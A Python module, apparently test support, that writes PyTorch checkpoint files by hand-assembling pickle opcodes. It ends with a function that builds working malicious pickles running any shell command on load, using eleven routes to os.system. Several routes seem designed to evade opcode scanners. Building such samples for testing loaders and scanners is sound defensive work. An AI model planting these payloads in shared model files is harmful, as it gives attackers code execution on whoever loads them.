"""Files as `torch.save` writes them, made without PyTorch, and pickles that run code.

A program here is a part of a pickle that leaves one value on the stack. Values are dicts of str,
NumPy arrays (tensors) and `Program`s, which are taken as they are.
"""

import pathlib
import struct
import zipfile
from typing import Any

import numpy as np

_KINDS = {"f4": b"FloatStorage", "f8": b"DoubleStorage", "f2": b"HalfStorage"}
_KINDS |= {"i8": b"LongStorage", "u2": b"BFloat16Storage"}  # NumPy has no bfloat16


class Program(bytes):
    """Instructions of a pickle."""


def text(value: str) -> Program:
    return Program(b"X" + struct.pack("<I", len(value.encode())) + value.encode())


def number(value: int) -> Program:
    content = value.to_bytes(12, "little", signed=True)
    return Program(b"\x8a" + bytes([len(content)]) + content)


def found(name: str) -> Program:
    """The function or class `module.name`."""
    module, _, last = name.rpartition(".")
    return Program(f"c{module}\n{last}\n".encode())


def tuple_of(*items: bytes) -> Program:
    return Program(b"(" + b"".join(items) + b"t")


def call(function: bytes, *arguments: bytes) -> Program:
    return Program(function + tuple_of(*arguments) + b"R")


def numbers(values) -> Program:
    return tuple_of(*map(number, values))


def tensor(storage, offset, shape, strides) -> Program:
    """A tensor of `storage`, which is a program."""
    hooks = call(found("collections.OrderedDict"))
    arguments = (storage, number(offset), numbers(shape), numbers(strides), b"\x89", hooks)
    return call(found("torch._utils._rebuild_tensor_v2"), *arguments)


def storage(kind: bytes, key: str, count: int, *more: bytes) -> Program:
    about = (text("storage"), Program(b"ctorch\n" + kind + b"\n"), text(key), text("cpu"))
    return Program(tuple_of(*about, number(count), *more) + b"Q")


def program_of(value: Any, arrays: list[np.ndarray], *more: bytes) -> Program:
    """The program that leaves `value`; its arrays are added to `arrays`, each is one storage.

    `more` is what the program says of a storage besides.
    """
    if isinstance(value, Program):
        return value
    if isinstance(value, dict):
        items = (text(k) + program_of(v, arrays, *more) for k, v in value.items())
        return Program(b"}(" + b"".join(items) + b"u")
    arrays.append(value)
    strides = [step // value.itemsize for step in value.strides]
    kind = _KINDS[value.dtype.str[1:]]
    return tensor(storage(kind, str(len(arrays) - 1), value.size, *more), 0, value.shape, strides)


def save(content: Any, path: pathlib.Path, compression: int = zipfile.ZIP_STORED) -> None:
    """A file of torch since 1.6; arrays must be contiguous."""
    arrays: list[np.ndarray] = []
    program = program_of(content, arrays)
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + program + b".")
        archive.writestr("archive/byteorder", "little")
        for i, array in enumerate(arrays):
            archive.writestr(f"archive/data/{i}", array.tobytes())
        archive.writestr("archive/version", "3\n")


def save_as_before_1_6(content: Any, path: pathlib.Path) -> None:
    """A file of earlier versions."""
    arrays: list[np.ndarray] = []
    program = program_of(content, arrays, b"N")
    about = {"protocol_version": number(1001), "little_endian": Program(b"\x88")}
    keys = b"](" + b"".join(text(str(i)) for i in range(len(arrays))) + b"e"
    pickles = (number(0x1950A86A20F9469CFC6C), number(1001), program_of(about, []), program, keys)
    stored = (struct.pack("<q", array.size) + array.tobytes() for array in arrays)
    path.write_bytes(b"".join(b"\x80\x02" + p + b"." for p in pickles) + b"".join(stored))


def attacks(command: str) -> dict[str, Program]:
    """Pickles that run a shell command when they are unpickled, by what they use."""
    system, line = found("os.system"), text(command)
    code = text(f"__import__('os').system({command!r})")
    stack_global = Program(text("os") + text("system") + b"\x93")
    dotted = Program(text("os") + text("path.os.system") + b"\x93")
    # Not run until the list takes the items of the map.
    arguments = tuple_of(system, Program(b"](" + line + b"e"))
    mapped = found("builtins.map") + arguments
    state = Program(b"}" + text("__setstate__") + system + b"s")
    chain = call(
        found("builtins.getattr"), call(found("builtins.__import__"), text("os")), text("system")
    )
    return {
        "a call": call(system, line),
        "eval": call(found("builtins.eval"), code),
        "exec": call(found("builtins.exec"), code),
        "getattr": call(chain, line),
        "a name from the stack": call(stack_global, line),
        "a dotted name": Program(b"\x80\x04" + call(dotted, line)),
        "INST": Program(b"(" + line + b"ios\nsystem\n"),
        "OBJ": Program(b"(" + system + line + b"o"),
        "NEWOBJ": call(found("builtins.list"), mapped + b"\x81"),
        "NEWOBJ_EX": call(found("builtins.list"), mapped + b"}\x92"),
        "BUILD": Program(call(found("argparse.Namespace")) + state + b"b" + line + b"b"),
    }
